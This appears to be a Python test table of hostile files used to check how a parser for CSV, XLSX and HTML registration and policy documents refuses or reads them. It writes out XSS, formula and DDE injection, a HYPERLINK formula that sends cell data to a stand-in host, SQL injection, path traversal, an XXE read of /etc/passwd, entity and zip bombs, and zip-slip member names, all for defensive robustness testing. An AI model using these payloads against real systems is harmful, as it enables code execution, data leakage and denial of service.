"""The table of hostile files: name of the case -> name of the file, what is in it, what becomes of it."""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from dataclasses import dataclass

from hostile.makers import (
    DECLARATION,
    HEAD,
    HEADINGS,
    MAIN,
    PAGE,
    POLICY,
    book,
    cell,
    deflated,
    extended,
    lying_book,
    many_members,
    name_row,
    overlapping_book,
    pack,
    parts,
    raw_archive,
    same_place_book,
    sheet,
    table,
    zeros,
)  # fmt: skip
from hostile.record_cases import RECORD_CASES


@dataclass(frozen=True)
class Refused:
    """The file is refused with one of these codes."""

    codes: frozenset[str]


@dataclass(frozen=True)
class Read:
    """So many rows are read, so many of them set aside."""

    rows: int
    aside: int = 0


@dataclass(frozen=True)
class Page:
    """Read as a page of policy."""


@dataclass(frozen=True)
class Case:
    """A file and what becomes of it."""

    file_name: str
    make: Callable[[], bytes]
    becomes: Refused | Read | Page


def _refused(*codes: str) -> Refused:
    return Refused(frozenset(codes))


NO_TABLE = _refused("invalid_file")
NO_BOOK = _refused("not_a_table")
TOO_LARGE = _refused("too_large")
NO_PAGE = _refused("no_document")
EMPTY = _refused("invalid_file", "empty_file")
UNKNOWN = _refused("unknown_headings", "invalid_file")
CASES: dict[str, Case] = {}


def _add(name: str, file_name: str, content: Callable[[], bytes | str], becomes: object) -> None:
    assert name not in CASES
    assert isinstance(becomes, Refused | Read | Page)

    def make() -> bytes:
        made = content()
        return made.encode() if isinstance(made, str) else made

    CASES[name] = Case(file_name, make, becomes)


# Text that some program takes for more than text: kept as printed.
PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "svg": "'\"><svg/onload=alert(1)>",
    "template": "{{7*7}}{% debug %}${7*7}#{7*7}",
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(A1:A9)",
    "command": "=cmd|' /C calc'!A0",
    "link": '=HYPERLINK("http://example.com?"&A1,"点我")',
    "wide equals": "＝2+2",
    "address": "javascript:alert(1)",
    "override": "公司\u202egnp.exe",
    "isolate": "公司\u2066甲\u2067乙\u2069",
    "nothing wide": "公\u200b司\u200d\ufeff",
    "four bytes": "𠮷野家😀公司",
    "line separators": "公司\u2028甲\u2029乙",
    "no character": "公司\ufdd0",
    "marks upon marks": "公" + "\u0301" * 2000,
    "SQL": "'; DROP TABLE patents; --",
    "format": "%s%n%x{0.__class__}",
    "path": "../../../../etc/passwd",
    "backslashes": "\\x00\\u0000\\",
    "long": "公" * 60_000,
}
for _name, _text in PAYLOADS.items():
    _add(f"text: {_name}", "登记.csv", lambda text=_text: table(name_row(text)), Read(1))
_add("text: all of them in a workbook", "登记.xlsx",
     lambda: book([HEADINGS, *([text[:30_000], "", ""] for text in PAYLOADS.values())]),
     Read(len(PAYLOADS)))  # fmt: skip
_add("text: a tab before a formula", "登记.csv", lambda: table('"\t=1+1",,'), Read(1))
_add("text: an escape sequence", "登记.csv", lambda: table("\x1b[31m红公司,,"), Read(1))

# Encodings.
GOOD = table("示例甲公司,,", "示例乙公司,,")
for _name in ("utf-8", "utf-8-sig", "gb18030", "utf-16"):
    _add(f"encoding: {_name}", "登记.csv", lambda name=_name: GOOD.encode(name), Read(2))
_add("encoding: utf-16-be with its mark", "登记.csv",
     lambda: b"\xfe\xff" + GOOD.encode("utf-16-be"), Read(2))  # fmt: skip
for _name in ("utf-16-le", "utf-16-be", "utf-32"):
    _add(f"encoding: {_name} without a mark", "登记.csv", lambda name=_name: GOOD.encode(name),
         _refused("invalid_file", "unknown_headings"))  # fmt: skip
for _name in ("big5", "shift_jis", "euc_kr"):
    _add(f"encoding: {_name}", "登记.csv", lambda name=_name: GOOD.encode(name, "replace"), UNKNOWN)
_add("encoding: half of one, half of another", "登记.csv",
     lambda: table(*["示例甲公司,,"] * 3).encode() + "示例丙公司,,\n".encode("gb18030"),
     Read(4, 1))  # fmt: skip
_add("encoding: overlong forms", "登记.csv",
     lambda: table("示例甲公司,,").encode() + b"\xc0\xaf\xe0\x80\xaf,,\n", Read(2, 1))  # fmt: skip
_add("encoding: surrogates", "登记.csv",
     lambda: table("示例甲公司,,").encode() + b"\xed\xa0\x80\xed\xb0\x80,,\n", Read(2, 1))  # fmt: skip
_add("encoding: a page that lies about it", "页.html",
     lambda: PAGE.format("").replace("utf-8", "big5").encode("gb18030"), Page())  # fmt: skip

# Something else under the name of a table.
OTHERS = {
    "PDF": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + b"x" * 100,
    "PNG": b"\x89PNG\r\n\x1a\n" + b"\0" * 100,
    "JPEG": b"\xff\xd8\xff\xe0" + b"\0" * 100,
    "ELF": b"\x7fELF\x02\x01\x01" + b"\0" * 200,
    "gzip": b"\x1f\x8b\x08\0" + bytes(range(256)),
    "SQLite": b"SQLite format 3\0" + b"\0" * 200,
    "all bytes": bytes(range(256)) * 40,
    "NULs": b"\0" * 10_000,
}
for _name, _bytes in OTHERS.items():
    # A PDF or a picture is a policy file, whatever it is called; pictures need the extra.
    _codes = (
        ("not_text", "scanned")
        if _name in ("PDF", "PNG", "JPEG")
        else ("invalid_file", "unknown_headings")
    )
    _add(f"other: {_name}", "登记.csv", lambda content=_bytes: content, _refused(*_codes))
for _name, _bytes in OTHERS.items():
    _add(f"other: {_name} as a page", "办法.html", lambda content=_bytes: content,
         _refused("not_text", "empty_file", "no_document", "invalid_file", "unknown_headings",
                  "scanned"))  # fmt: skip
_add("other: an archive", "登记.xlsx", lambda: pack({"a.csv": GOOD.encode()}), NO_BOOK)
_add("other: a DOCX", "登记.xlsx", lambda: pack({"word/document.xml": b"<w/>"}), NO_BOOK)
_add("other: a workbook named as a page", "登记.html", lambda: book(), Read(1))
_add("other: a workbook named as a table", "登记.csv", lambda: book(), Read(1))
_add("other: a table named as a workbook", "登记.xlsx", lambda: GOOD, Read(2))
_add("other: a page named as a workbook", "办法.xlsx", lambda: PAGE.format(""), Page())
_add("other: old Office", "登记.xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
     NO_BOOK)  # fmt: skip
_add("other: old Office of noise", "登记.xls",
     lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 20, NO_BOOK)  # fmt: skip

# The build of a table.
_add("table: nothing", "登记.csv", lambda: b"", EMPTY)
_add("table: a mark alone", "登记.csv", lambda: b"\xef\xbb\xbf", EMPTY)
_add("table: ends of line alone", "登记.csv", lambda: b"\n\r\n\r" * 1000, EMPTY)
_add("table: headings alone", "登记.csv", lambda: HEAD.strip(), Read(0))
_add("table: commas alone", "登记.csv", lambda: ",,,,,\n,,,\n", UNKNOWN)
_add("table: a heading twice", "登记.csv", lambda: "企业名称,企业名称\n甲,乙\n", NO_TABLE)
_add("table: 100,000 headings", "登记.csv",
     lambda: HEAD.strip() + "," + ",".join(f"列{at}" for at in range(100_000)) + "\n甲\n",
     TOO_LARGE)  # fmt: skip
_add("table: 100,000 cells", "登记.csv", lambda: table("甲公司,,", "乙," * 100_000), Read(2, 1))
_add("table: a line of 20 MB", "登记.csv",
     lambda: table("甲公司,,", "x" * (20 << 20) + ",,", "乙公司,,"), Read(3, 1))  # fmt: skip
_add("table: headings of 20 MB", "登记.csv", lambda: "x" * (20 << 20), UNKNOWN)
_add("table: an open quote before 5,000 lines", "登记.csv",
     lambda: table('"甲公司,,', *[f"公司{at},," for at in range(5_000)]), Read(5_001, 1))  # fmt: skip
_add("table: open quotes in 2,000 lines", "登记.csv", lambda: table(*['"甲公司,,'] * 2000),
     Read(2000, 2000))  # fmt: skip
_add(
    "table: an open quote at the end", "登记.csv", lambda: HEAD + '甲公司,,\n乙公司,"x', Read(2, 1)
)
_add("table: quotes alone", "登记.csv", lambda: table('"' * 100_001), Read(1, 1))
_add("table: a NUL in a cell", "登记.csv", lambda: table("甲\0公司,,", "乙公司,,"), Read(2, 1))
_add("table: NULs at the end", "登记.csv",
     lambda: table(*[f"公司{at},," for at in range(2000)]) + "\0" * 4096, Read(2001, 1))  # fmt: skip
_add("table: carriage returns alone", "登记.csv", lambda: GOOD.replace("\n", "\r"), Read(2))
_add("table: 100,000 blank lines", "登记.csv", lambda: table("甲公司,,", *[""] * 100_000), Read(1))
_add("table: control characters", "登记.csv", lambda: table("甲\x01\x02\x07公司,,"), Read(1))
_add(
    "table: an end of file of long ago", "登记.csv", lambda: table("甲公司,,") + "\x1a", Read(2, 1)
)
_add("table: the same row 1,000 times", "登记.csv", lambda: table(*["甲公司,,"] * 1000), Read(1000))
_add("table: one key with 1,000 contents", "登记.csv",
     lambda: table(*[f"甲公司,,类型{at}" for at in range(1000)]), Read(1000, 1000))  # fmt: skip

# Half a file.
_add("half: a table", "登记.csv", lambda: table("甲公司,,", "乙公司,,")[:-3], Read(2, 1))
_add("half: a character", "登记.csv", lambda: table(*["甲公司,,"] * 9, "乙公").encode()[:-2],
     Read(10, 1))  # fmt: skip
_add("half: a character of two bytes", "登记.csv",
     lambda: table(*["甲公司,,"] * 9, "乙公").encode("gb18030")[:-2], Read(10, 1))  # fmt: skip
_add("half: utf-16", "登记.csv", lambda: GOOD.encode("utf-16")[:-3], Read(2, 1))
_add("half: a workbook", "登记.xlsx", lambda: book()[: len(book()) // 2], NO_BOOK)
_add("half: a workbook without its end", "登记.xlsx", lambda: book()[:-10], NO_BOOK)
_add("half: a page", "办法.html", lambda: PAGE.format("")[:200].encode()[:-1], Page())
_add("half: a page in its first tag", "办法.html", lambda: PAGE[:40], NO_PAGE)
_add("half: a policy", "办法.txt", lambda: POLICY.format("").encode()[:150], Page())

# Bombs.
_add("bomb: 1,000 times", "登记.xlsx", lambda: extended({"xl/media/a.bin": b" " * (100 << 20)}),
     TOO_LARGE)  # fmt: skip
_add("bomb: a sheet of blanks", "登记.xlsx",
     lambda: book(sheet=sheet([HEADINGS]).replace("</sheetData>", " " * (60 << 20) + "</sheetData>")),
     TOO_LARGE)  # fmt: skip
_add("bomb: a shared text of 60 MB", "登记.xlsx",
     lambda: book(strings=f'{DECLARATION}<sst xmlns="{MAIN}"><si><t>{"公" * (20 << 20)}</t></si></sst>'),
     TOO_LARGE)  # fmt: skip
_add("bomb: a header that lies", "登记.xlsx", lying_book, TOO_LARGE)
_add("bomb: members that overlap", "登记.xlsx", same_place_book, TOO_LARGE)
_add("bomb: a thousand members of nothing that say 1 MB", "登记.xlsx", overlapping_book, Read(1))
_add("bomb: a million members", "登记.xlsx", many_members, TOO_LARGE)
_add("bomb: 3,000 members", "登记.xlsx", lambda: extended({f"xl/{at}": b"" for at in range(3000)}),
     TOO_LARGE)  # fmt: skip
_add("bomb: a list of members that is said to be long", "登记.xlsx",
     lambda: raw_archive([("xl/a.xml", deflated(b"x"), 1, 0)], directory=1 << 30), TOO_LARGE)  # fmt: skip
_add("bomb: said to be 4 GB", "登记.xlsx",
     lambda: raw_archive([("xl/a.xml", deflated(b"x"), (1 << 32) - 1, 0)]), TOO_LARGE)  # fmt: skip
_add("bomb: a workbook in a workbook", "登记.xlsx",
     lambda: extended({"xl/embeddings/b.xlsx": pack({"x": b" " * (60 << 20)})}), Read(1))  # fmt: skip
_add("bomb: a cell in the last corner", "登记.xlsx",
     lambda: book(sheet=sheet([HEADINGS, ["甲公司", "", ""]],
                              f'<row r="1048576">{cell("XFD1048576", "x")}</row>')),
     TOO_LARGE)  # fmt: skip
_add("bomb: entities", "登记.xlsx",
     lambda: book(sheet=sheet(
         [HEADINGS, ["甲公司", "", ""]],
         head='<!DOCTYPE x [<!ENTITY a "' + "x" * 1000 + '">' + "".join(
             f'<!ENTITY {chr(98 + at)} "{f"&{chr(97 + at)};" * 10}">' for at in range(9)) + "]>",
     ).replace("甲公司", "甲&j;")), _refused("not_a_table", "too_large"))  # fmt: skip
_add("bomb: an entity from a file", "登记.xlsx",
     lambda: book(sheet=sheet(
         [HEADINGS, ["甲公司", "", ""]],
         head='<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
     ).replace("甲公司", "甲&e;")), _refused("not_a_table"))  # fmt: skip
_add("bomb: 200,000 levels", "登记.xlsx",
     lambda: book(sheet=sheet([HEADINGS], "<a>" * 200_000 + "</a>" * 200_000)), Read(0))  # fmt: skip

# Workbooks put together by somebody who knows how they are read.
_add("book: good", "登记.xlsx", lambda: book(), Read(1))
_add("book: no sheet", "登记.xlsx", lambda: pack({
    name: content for name, content in parts().items() if "sheet1" not in name}), NO_BOOK)  # fmt: skip
_add("book: an empty sheet", "登记.xlsx", lambda: book([]), _refused("empty_file"))
_add(
    "book: XML that is none", "登记.xlsx", lambda: book(sheet="<worksheet><sheetData><row"), NO_BOOK
)
_add("book: a sheet of noise", "登记.xlsx", lambda: book(sheet=bytes(range(256)) * 20),
     _refused("not_a_table", "empty_file"))  # fmt: skip
_add("book: a shared text that is not there", "登记.xlsx",
     lambda: book(sheet=sheet([HEADINGS], '<row r="2"><c r="A2" t="s"><v>99</v></c></row>')),
     NO_BOOK)  # fmt: skip
_add("book: a shared text below zero", "登记.xlsx",
     lambda: book(sheet=sheet([HEADINGS], '<row r="2"><c r="A2" t="s"><v>-1</v></c></row>')),
     NO_BOOK)  # fmt: skip
_add("book: a cell in row 0", "登记.xlsx",
     lambda: book(sheet=sheet([HEADINGS], f'<row r="0">{cell("A0", "x")}</row>')), NO_BOOK)  # fmt: skip
_add("book: a cell in no column", "登记.xlsx",
     lambda: book(sheet=sheet([HEADINGS], f'<row r="2">{cell("ZZZZZZZZ2", "x")}</row>')),
     TOO_LARGE)  # fmt: skip
_add("book: numbers beyond all", "登记.xlsx",
     lambda: book(sheet=sheet([HEADINGS], '<row r="2"><c r="A2"><v>1e999</v></c><c r="B2"><v>NaN</v></c></row>')),
     Read(1))  # fmt: skip
_add("book: formulas", "登记.xlsx",
     lambda: book(sheet=sheet([HEADINGS], '<row r="2"><c r="A2" t="str"><f>1+1</f><v>甲公司</v></c></row>')),
     Read(1))  # fmt: skip
_add("book: macros", "登记.xlsm", lambda: extended({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 9}),
     Read(1))  # fmt: skip
_add("book: names that lead elsewhere", "登记.xlsx",
     lambda: extended({"../../../../tmp/zhishu-out": b"x", "/tmp/zhishu-out": b"x",
                       "C:\\zhishu-out": b"x", "xl/\u202egpj.exe": b"x", "n" * 300: b"x",
                       "CON": b"x", "a\x01b": b"x"}), Read(1))  # fmt: skip
_add(
    "book: locked", "登记.xlsx", lambda: raw_archive([("xl/a.xml", deflated(b"x"), 1, 1)]), NO_BOOK
)
_add("book: packed in another way", "登记.xlsx", lambda: pack(parts(), zipfile.ZIP_BZIP2), NO_BOOK)
_add("book: not packed", "登记.xlsx", lambda: pack(parts(), zipfile.ZIP_STORED), Read(1))
_add("book: a checksum that is wrong", "登记.xlsx",
     lambda: raw_archive([(name, deflated(content), len(content), 0)
                          for name, content in parts().items()]), Read(1))  # fmt: skip
_add("book: something behind its end", "登记.xlsx", lambda: book() + b"x" * 1000, Read(1))
_add("book: control characters", "登记.xlsx",
     lambda: book([HEADINGS, ["甲\ufffe公司", "", ""], ["乙\x7f公司", "", ""]]), Read(2))  # fmt: skip
_add(
    "book: a cell of 5 MB",
    "登记.xlsx",
    lambda: book([HEADINGS, ["公" * (5 << 20), "", ""]]),
    Read(1, 1),
)
_add("book: cells beyond the headings", "登记.xlsx",
     lambda: book([HEADINGS, ["甲公司", "", "", "x"], ["乙公司", "", ""]]), Read(2, 1))  # fmt: skip

# Pages that try the patience of a reader.
PATIENCE = {
    "tags that open": "<div>" * 30_000,
    "tables in tables": "<table><tr><td>" * 15_000,
    "tags that never end": "<a " * 30_000,
    "attributes": "<p " + "a=b " * 30_000 + ">",
    "open attributes": '<p a="' * 15_000,
    "less-than signs": "<" * 100_000,
    "comments that never end": "<!--" * 30_000,
    "declarations": "<!" * 30_000,
    "sections": "<![CDATA[" * 15_000,
    "ampersands": "&" * 100_000,
    "entities": "&lt;script&gt;" * 30_000,
    "numbered entities": "&#0;&#xD800;&#1114112;&#9999999;" * 10_000,
    "scripts": "<script>" * 15_000,
    "closing tags": "</div>" * 30_000,
    "links": '<a href="x">甲</a>' * 30_000,
    "chrome": '<div class="' + "nav" * 30_000 + '">',
}
for _name, _text in PATIENCE.items():
    _add(f"page: {_name}", "办法.html", lambda text=_text: PAGE.format(text), Page())
LONG = {
    "one clause number": "第一条" * 20_000,
    "items": "（一）甲\n" * 5_000,
    "items in one line": "（一）甲。1.乙。" * 3_000,
    "title marks": "《" * 30_000,
    "titles": "《甲办法》（云财规〔2025〕6号）" * 3_000,
    "brackets": "〔" * 30_000,
    "digits": "1" * 100_000,
    "dates": "2025年11月7日" * 10_000,
    "blanks": " " * 100_000,
    "wide blanks": "\u3000" * 100_000,
    "ends of line": "\n" * 100_000,
    "one letter": "甲" * 100_000,
    "letters": "x" * 100_000,
    "circled numbers": "①" * 30_000,
    "quotes": "“" * 30_000,
    "dots": "……" * 30_000,
}
for _name, _text in LONG.items():
    _add(f"policy: {_name}", "办法.txt", lambda text=_text: POLICY.format(text), Page())
_add("page: no document", "登录.html", lambda: "<!doctype html><html><body><form>登录</form></body></html>",
     NO_PAGE)  # fmt: skip
_add("page: 33 MB", "办法.html", lambda: PAGE.format("甲" * (11 << 20)), TOO_LARGE)
_add("page: NULs", "办法.html", lambda: PAGE.format("\0" * 10), Page())
_add(
    "page: a policy with a bidirectional override",
    "办法.txt",
    lambda: POLICY.format("\u202e甲\u202c"),
    Page(),
)
_add("page: a bomb named as a page", "办法.html", lying_book, TOO_LARGE)
_add("page: blanks of 100 MB in an archive", "办法.txt",
     lambda: raw_archive([("a.txt", zeros(100), 100 << 20, 0)]), _refused("not_text"))  # fmt: skip

# Patents in XML, JSON and packages.
for _name, (_file, _content, _outcome) in RECORD_CASES.items():
    match _outcome:
        case (int() as _rows, int() as _aside):
            _add(f"record: {_name}", _file, _content, Read(_rows, _aside))
        case _codes:
            _add(f"record: {_name}", _file, _content, _refused(*map(str, _codes)))
